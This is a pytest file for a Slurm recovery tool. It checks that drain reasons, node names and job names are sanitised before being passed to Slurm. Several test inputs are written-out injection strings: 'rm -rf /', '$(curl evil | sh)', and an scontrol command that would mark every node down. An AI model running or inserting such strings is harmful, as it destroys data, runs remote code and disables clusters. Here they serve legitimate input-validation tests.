"""Drain reasons, node names and job names that are safe to hand to Slurm."""

from __future__ import annotations

import string

import pytest

from trainguard.errors import ConfigError
from trainguard.recover.slurm import job_name, sanitize_reason, validate_node_name

_HOSTILE = set("\"'`$;|&<>\\\n\r\t")


@pytest.mark.parametrize(("text", "expected"), [
    ("xid 79", "xid 79"),
    ('xid 79; rm -rf / $(reboot) "quoted"\nnext', "xid 79, rm -rf / (reboot) quoted next"),
    ("`reboot`", "reboot"),
    ("it's 'single'", "it s single"),
    ("a | b && c > /etc/passwd < x", "a / b ++ c ) /etc/passwd ( x"),
    ("C:\\path", "C:/path"),
    ("tab\there\r\nand\x00nul\x1bescape", "tab here and nul escape"),
    ("   many     spaces   ", "many spaces"),
    ("GPU fällt aus – Xid 79 🔥", "GPU fallt aus Xid 79"),
    ("key=value other=thing", "key=value other=thing"),
    ("", "trainguard"),
    ("\n\t  ", "trainguard"),
    ("🔥🔥", "trainguard"),
    ('"";;$$', ",,"),
])
def test_sanitize_reason(text: str, expected: str) -> None:
    assert sanitize_reason(text) == expected


@pytest.mark.parametrize("text", [
    'x"; scontrol update nodename=ALL state=down; echo "',
    "$(curl evil | sh)",
    "\x7f\x80\x9f\u2028\u2029\ufeff",
    "a" * 10_000,
    "é" * 500,
    "".join(chr(c) for c in range(0, 0x300)),
])
def test_sanitized_reason_is_one_safe_line(text: str) -> None:
    reason = sanitize_reason(text)
    assert reason
    assert len(reason) <= 200
    assert set(reason) <= set(string.printable) - _HOSTILE - {"\x0b", "\x0c"}
    assert reason == reason.strip()
    assert "  " not in reason


def test_long_reason_is_truncated_with_an_ellipsis() -> None:
    reason = sanitize_reason("word " * 100, limit=20)
    assert len(reason) <= 20
    assert reason.endswith("...")
    assert reason == "word word word wo..."


def test_short_reason_is_not_truncated() -> None:
    assert sanitize_reason("x" * 200) == "x" * 200
    assert sanitize_reason("x" * 201).endswith("...")


def test_reason_limit_must_leave_room() -> None:
    with pytest.raises(ValueError, match="limit"):
        sanitize_reason("x", limit=3)


@pytest.mark.parametrize("name", ["node1", "gpu-017", "rack1_n02", "n1.cluster.local", "7",
                                  "A" * 255])
def test_valid_node_names(name: str) -> None:
    assert validate_node_name(name) == name


@pytest.mark.parametrize("name", [
    "", " node1", "node1 ", "node 1", "node1;reboot", "$(reboot)", "`x`", "node[1-2]",
    "node1,node2", "-x", ".hidden", "nöde", "node1\n", "a=b", "node/1", "A" * 256,
])
def test_invalid_node_names(name: str) -> None:
    with pytest.raises(ConfigError, match="invalid Slurm node name"):
        validate_node_name(name)


@pytest.mark.parametrize(("text", "expected"), [
    ("train", "train"),
    ("llama 70b / run #3", "llama_70b_run_3"),
    ("a;b$(c)`d`", "a_b_c_d"),
    ("--partition=evil", "partition_evil"),
    (".hidden", "hidden"),
    ("naïve-run", "naive-run"),
    ("日本語", "trainguard"),
    ("", "trainguard"),
    ("line\nbreak", "line_break"),
])
def test_job_name(text: str, expected: str) -> None:
    assert job_name(text) == expected


def test_job_name_is_bounded() -> None:
    name = job_name("x" * 500)
    assert name == "x" * 100
